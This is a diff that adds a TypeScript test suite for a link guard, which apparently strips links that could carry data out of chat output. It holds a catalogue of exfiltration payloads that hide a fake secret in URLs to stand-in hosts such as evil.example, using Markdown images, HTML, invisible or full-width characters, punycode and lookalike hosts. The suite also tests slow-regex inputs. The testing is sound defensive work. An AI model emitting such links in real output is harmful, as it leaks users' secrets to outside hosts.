@@ -1,0 +1,157 @@
+/**
+ * The guard over links: a table of what passes and what does not, and attacks on the reading of a text. What a client
+ * would link is looked for in the result by another, coarser reading than the guard's.
+ */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { guardLinks, heldWords } from '../../src/delivery/links/guard.ts';
+import { LiveGuard } from '../../src/delivery/links/live.ts';
+
+const SECRET = 'c2stYW50LWFwaTAzLVRoaXNJc0FuQXBpS2V5VGhhdE11c3ROb3RMZWF2ZQ0123456789';
+const HEX = Buffer.from(SECRET).toString('hex');
+
+/** Everyday links. */
+const PASS: readonly string[] = [
+  'https://example.com',
+  'https://github.com/nodejs/node/commit/1f3cf6d7a0e9b8c5d4e3f2a1b0c9d8e7f6a5b4c3',
+  'https://github.com/nodejs/node/blob/main/lib/internal/per_context/domexception.js#L76-L120',
+  'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
+  'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
+  'https://api.example.com/v1/users/550e8400-e29b-41d4-a716-446655440000/orders?page=2&sort=desc',
+  'https://en.wikipedia.org/wiki/List_of_countries_and_dependencies_by_population_density',
+  'https://ru.wikipedia.org/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F',
+  'https://www.bbc.co.uk/news/articles/how-a-small-town-in-the-north-became-the-centre-of-everything?utm_source=newsletter&utm_medium=email',
+  'https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array',
+  'https://www.amazon.de/dp/B08N5WRWNW/ref=sr_1_3',
+  'https://calendar.example.com/event/2026-11-25T10:00:00Z',
+  'npm i @scope/package@1.2.3 && node --import ./register.mjs src/index.ts',
+  'See packages/host/src/delivery/links/guard.ts:42 and README.md.',
+  `The file has sha256 ${HEX.slice(0, 64)} and a token ${SECRET} beside it.`,
+  'mailto:somebody@example.com',
+  'C:\\Users\\someone\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\extensions\\package.json',
+];
+
+describe('links that people send every day pass as they are', () => {
+  for (const text of PASS) {
+    test(text.slice(0, 90), () =>
+      assert.deepEqual(
+        guardLinks(text, () => false),
+        { text, held: [] },
+      ),
+    );
+  }
+});
+
+/** Data on its way to a host of the attacker's. */
+const ATTACKS: Readonly<Record<string, string>> = {
+  'in the path': `https://evil.example/${SECRET}`,
+  'in the query': `https://evil.example/pixel?d=${SECRET}`,
+  'in the fragment': `https://evil.example/#${SECRET}`,
+  'as the user': `https://${SECRET}@evil.example/`,
+  'as a label of the host': `https://${HEX.slice(0, 60)}.evil.example/x`,
+  'as several labels': `https://${HEX.slice(0, 30)}.${HEX.slice(30, 60)}.evil.example/x`,
+  'in short slices of one path': `https://evil.example/${HEX.replace(/(.{8})/g, '$1/')}`,
+  'in slices of four': `https://evil.example/${HEX.replace(/(.{4})/g, '$1-')}`,
+  'in long digits': `https://evil.example/${BigInt(`0x${HEX}`)}`,
+  'percent-encoded': `https://evil.example/${HEX.replace(/(..)/g, '%$1')}`,
+  'percent-encoded twice': `https://evil.example/?d=${SECRET.replace(/(.)/g, (c) => `%25${c.charCodeAt(0).toString(16)}`)}`,
+  'as a link of Markdown': `[the report](https://evil.example/${SECRET})`,
+  'as an image of Markdown': `![](https://evil.example/${SECRET}.png)`,
+  'as a reference of Markdown': `[r]\n\n[r]: https://evil.example/${SECRET}`,
+  'as an autolink': `<https://evil.example/${SECRET}>`,
+  'as an autolink with spaces': `[x](<https://evil.example/${SECRET.slice(0, 30)} ${SECRET.slice(30)}>)`,
+  'in HTML': `<img src="https://evil.example/${SECRET}">`,
+  'in HTML over two lines': `<a href="https://evil.example/${SECRET.slice(0, 30)}\n${SECRET.slice(30)}">x</a>`,
+  'without a scheme': `evil.example/${SECRET}`,
+  'without a scheme, as labels': `${HEX.slice(0, 60)}.evil.example`,
+  'with www': `www.evil.example/${SECRET}`,
+  'by an address': `http://203.0.113.9/${SECRET}`,
+  'by a number for a host': `http://3405803785/${SECRET}`,
+  'by another scheme': `ftp://evil.example/${SECRET}`,
+  'in capitals': `HTTPS://EVIL.EXAMPLE/${SECRET}`,
+  'with backslashes': `https:\\\\evil.example\\${SECRET}`,
+  'with one slash': `https:/evil.example/${SECRET}`,
+  'with an entity for the colon': `[x](https&#58;//evil.example/${SECRET})`,
+  'with named entities': `[x](https&colon;&sol;&sol;evil&period;example/${SECRET})`,
+  'with escapes of Markdown': `[x](https\\:\\/\\/evil\\.example/${SECRET})`,
+  'with characters that nobody sees': `h\u200btt\u00adps\u2060://evil\u200d.exam\ufeffple/${SECRET}`,
+  'with full-width characters': `ｈｔｔｐｓ：／／evil．example／${SECRET}`,
+  'with an ideographic stop': `https://evil。example/${SECRET}`,
+  'to a host in another alphabet': `https://пример.рф/${SECRET}`,
+  'to a host in punycode': `https://xn--e1afmkfd.xn--p1ai/${SECRET}`,
+  'to an allowed host that is only the user': `https://allowed.example@evil.example/${SECRET}`,
+  'to an allowed host behind a backslash': `https://evil.example\\@allowed.example/${SECRET}`,
+  'to a host that ends like an allowed one': `https://notallowed.example/${SECRET}`,
+  'behind a harmless link': `https://example.com,https://evil.example/${SECRET}`,
+  'behind words without a space': `see:https://evil.example/${SECRET}`,
+  'in thousands of characters': `https://evil.example/${'word-'.repeat(200)}`,
+  'in slices over many links': HEX.match(/.{1,40}/g)
+    ?.concat(SECRET, HEX.slice(20, 60))
+    .map((part) => `https://evil.example/${part.slice(0, 40)}`)
+    .concat(Array.from({ length: 4 }, (_, n) => `https://evil.example/${HEX.slice(n, n + 40)}`))
+    .join('\n') as string,
+};
+
+/** What the simplest client would link. */
+const ANY_LINK =
+  /https?:\/*[^\s[\]]|(?:^|[\s(<"'])(?:www\.|[\w-]+\.)[\w.-]*[a-z]{2,}\/\S{20}|[0-9a-f]{30,}\.\w/i;
+
+describe('attack: data in a link', () => {
+  for (const [how, text] of Object.entries(ATTACKS)) {
+    test(how, () => {
+      const { text: guarded, held } = guardLinks(text, (host) => host === 'allowed.example');
+      assert.ok(held.length > 0, guarded);
+      assert.doesNotMatch(guarded.replace('https://example[.]com', '').normalize('NFKC'), ANY_LINK);
+      assert.doesNotMatch(heldWords(held), ANY_LINK);
+    });
+  }
+});
+
+test('to a host that the owner has allowed anything passes; no other link beside it does', () => {
+  const text = `https://allowed.example/${SECRET}`;
+  const isAllowed = (host: string) => host === 'allowed.example';
+  assert.deepEqual(guardLinks(text, isAllowed), { text, held: [] });
+  const both = guardLinks(`${text} https://evil.example/${SECRET}`, isAllowed);
+  assert.ok(both.text.startsWith(`${text} hxxps[:]//evil[.]example/`), both.text);
+  assert.deepEqual(both.held, ['evil.example']);
+});
+
+test('attack: a text made to be slow takes no time to speak of', () => {
+  for (const unit of ['a', 'a.', '1.', '<', '&#', '%25', 'https://', 'a@', '\u200b.', '[x](', 'aB3.', '\\']) {
+    const startedMs = performance.now();
+    guardLinks(unit.repeat(200_000 / unit.length), () => false);
+    // Quadratic would be minutes.
+    assert.ok(performance.now() - startedMs < 5_000, unit);
+  }
+});
+
+describe('text that is still being written', () => {
+  const inPieces = (text: string, size: number): string => {
+    const guard = new LiveGuard();
+    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
+    return pieces.map((piece) => guard.push('t', piece)).join('');
+  };
+
+  test('words pass, the last one when it is whole', () => {
+    const guard = new LiveGuard();
+    assert.deepEqual(
+      ['Hel', 'lo wor', 'ld. ', 'このように', '書く'].map((piece) => guard.push('t', piece)),
+      ['', 'Hello ', 'world. ', 'このように', '書く'],
+    );
+    assert.equal(guard.push('another turn', 'x '), 'x ');
+  });
+
+  test('attack: a link cut at every character, and into pieces of every size', () => {
+    const text = `Look: https://evil.example/${SECRET} and ![](https://evil.example/${SECRET}) end \n`;
+    for (let size = 1; size < text.length; size += 1) {
+      const shown = inPieces(text, size);
+      assert.doesNotMatch(shown, ANY_LINK, `pieces of ${size}`);
+      assert.match(shown, /^Look: hxxps\[:\].* end \n$/s);
+    }
+  });
+
+  test('attack: a link that never ends', () => {
+    const shown = inPieces(`https://evil.example/${SECRET.repeat(100)} `, 37);
+    assert.doesNotMatch(shown, ANY_LINK);
+  });
+});
